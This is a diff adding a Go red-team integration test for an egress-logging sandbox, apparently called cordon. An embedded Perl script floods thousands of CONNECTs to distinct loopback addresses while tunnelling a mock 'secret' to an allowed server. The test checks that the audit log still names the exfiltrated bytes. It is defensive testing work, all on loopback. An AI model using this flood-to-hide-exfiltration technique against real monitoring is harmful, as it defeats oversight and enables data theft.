@@ -1,0 +1,108 @@
+package integration
+
+import (
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"testing"
+
+	"github.com/cordonhq/cordon/internal/event"
+)
+
+// distinctFloodExfil forks ARGV[0] flooders, each making ARGV[1] allowed CONNECTs, one
+// connection each, to port 9 of distinct loopback addresses where nothing listens
+// (127.P.X.Y: no byte moved, a new destination each time), while the parent, until
+// they are done, sends a request through a CONNECT tunnel to the allowed server at
+// 127.0.0.2:ARGV[2] every 1.1 s (the exfiltration the flood would hide: at most one a
+// summary, so that in most it comes after 1024 destinations told apart). It prints how
+// many tunnels it made and the bytes it sent up through them.
+const distinctFloodExfil = `use IO::Socket::INET; use POSIX ":sys_wait_h";
+my ($procs, $n, $port) = @ARGV;
+my %kids;
+for my $p (1..$procs) {
+  my $pid = fork() // die "fork: $!";
+  if ($pid == 0) {
+    for my $i (1..$n) {
+      my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128, Proto => "tcp") or die "connect: $!";
+      my $d = "127.$p." . (int($i / 250) % 250) . "." . (1 + $i % 250) . ":9";
+      print $s "CONNECT $d HTTP/1.1\r\nHost: $d\r\n\r\n";
+      my $status = <$s>; close $s;
+    }
+    exit 0;
+  }
+  $kids{$pid} = 1;
+}
+my ($tunnels, $up) = (0, 0);
+while (%kids) {
+  my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128, Proto => "tcp") or die "connect: $!";
+  print $s "CONNECT 127.0.0.2:$port HTTP/1.1\r\nHost: 127.0.0.2:$port\r\n\r\n";
+  my $status = <$s> // die "no answer";
+  $status =~ m{^HTTP/1\.[01] 200 } or die "tunnel refused: $status";
+  while (my $h = <$s>) { last if $h eq "\r\n"; }
+  my $req = "GET /hello?secret=" . ("s" x 1000) . " HTTP/1.0\r\nHost: 127.0.0.2:$port\r\n\r\n";
+  print $s $req; $up += length $req;
+  1 while <$s>; close $s; $tunnels++;
+  while ((my $k = waitpid(-1, WNOHANG)) > 0) { delete $kids{$k}; }
+  select(undef, undef, undef, 1.1);
+}
+print "tunnels $tunnels up $up\n";
+`
+
+// TestRedAllowExfilPastDistinct (red team, redallow): four flooders make 32,000
+// allowed CONNECTs to distinct loopback addresses on a port where nothing listens, each
+// summary telling 1024 destinations apart and then no more, while the workload sends
+// a request through a tunnel to an allowed server about once a summary. Every byte sent up is in the log
+// under its destination, named: none of it is summed into a summary's other, where a
+// reviewer could not tell where it went (before 23b6387 a destination sent bytes past
+// the 1024 told apart was never named).
+func TestRedAllowExfilPastDistinct(t *testing.T) {
+	w := newWorld(t)
+	up := newUpstream(t, false, "127.0.0.2:0")
+	w.egressContract("9", up.port)
+	mustWrite(t, filepath.Join(w.ws, "flood.pl"), distinctFloodExfil)
+	r := w.sh("perl flood.pl 4 8000 " + up.port)
+	got := regexp.MustCompile(`tunnels (\d+) up (\d+)`).FindStringSubmatch(r.stdout)
+	if r.code != 0 || got == nil {
+		t.Fatalf("flood: %v", r)
+	}
+	sent, _ := strconv.ParseInt(got[2], 10, 64)
+	exfil := "127.0.0.2:" + up.port
+	var logged, hidden int64
+	atLeast := false
+	for _, rec := range lastRun(t, w) {
+		switch rec.Type {
+		case event.NetAllow:
+			var b event.NetBody
+			if err := rec.DecodeBody(&b); err != nil {
+				t.Fatal(err)
+			}
+			if netTargetOf(b) == exfil {
+				logged += b.BytesUp
+			}
+		case event.NetAllowSummary:
+			var b event.NetAllowSummaryBody
+			if err := rec.DecodeBody(&b); err != nil {
+				t.Fatal(err)
+			}
+			if b.DestinationsAtLeast {
+				atLeast = true
+			}
+			logged += b.Named[exfil].BytesUp
+			if b.Other != nil {
+				hidden += b.Other.BytesUp
+			}
+		}
+	}
+	if !atLeast {
+		t.Fatalf("no summary told 1024 destinations apart: the flood was too slow to test (%s)", r.stdout)
+	}
+	if hidden != 0 || logged != sent {
+		t.Errorf("the workload sent %d bytes up to %s; the log names %d of them there and sums %d under other", sent, exfil, logged, hidden)
+	}
+	show := w.cordon("", "audit", "show", "last")
+	assertContains(t, "audit show", show.stdout, exfil)
+}
+
+func netTargetOf(b event.NetBody) string {
+	return b.Host + ":" + strconv.Itoa(int(b.Port))
+}
